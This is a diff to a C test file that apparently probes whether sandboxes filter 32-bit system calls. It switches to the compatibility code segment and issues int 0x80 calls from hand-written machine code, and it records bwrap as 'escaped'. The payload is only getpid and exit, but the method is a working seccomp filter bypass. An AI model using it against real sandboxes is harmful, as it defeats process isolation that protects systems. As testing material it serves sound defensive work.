@@ -3,18 +3,16 @@
 // topic: foreign calls
 // stops: system call filter that looks at the architecture
 // reprove: held
-// bwrap: held
+// bwrap: escaped
 #include "attack.h"
 
 static unsigned char *page;
 static int tried(void) {
-    // 32-bit: getpid by int 0x80, compared with what is at the page's end; then exit by int 0x80, with 1 where they are equal.
-    unsigned char code[] = {0xb8, 20, 0, 0, 0, 0xcd, 0x80, 0x3b, 0x05, 0, 0, 0, 0, 0x0f, 0x94, 0xc3, 0x0f, 0xb6, 0xdb, 0xb8, 1, 0, 0, 0, 0xcd, 0x80};
-    uint32_t number = getpid(), place = (uint32_t)(uintptr_t)page + 4092;
-    memcpy(code + 9, &place, 4);
+    // 32-bit: getpid by int 0x80, compared with what edi holds; then exit by int 0x80, with 1 where they are equal.
+    static const unsigned char code[] = {0xb8, 20, 0, 0, 0, 0xcd, 0x80, 0x39, 0xf8, 0x0f, 0x94, 0xc3, 0x0f, 0xb6, 0xdb,
+        0xb8, 1, 0, 0, 0, 0xcd, 0x80};
     memcpy(page, code, sizeof code);
-    memcpy(page + 4092, &number, 4);
-    __asm__ volatile("push $0x23\n push %0\n lretq" : : "r"((uint64_t)(uintptr_t)page) : "memory");
+    __asm__ volatile("push $0x23\n push %0\n lretq" : : "r"((uint64_t)(uintptr_t)page), "D"((uint64_t)getpid()) : "memory");
     return 0;
 }
 
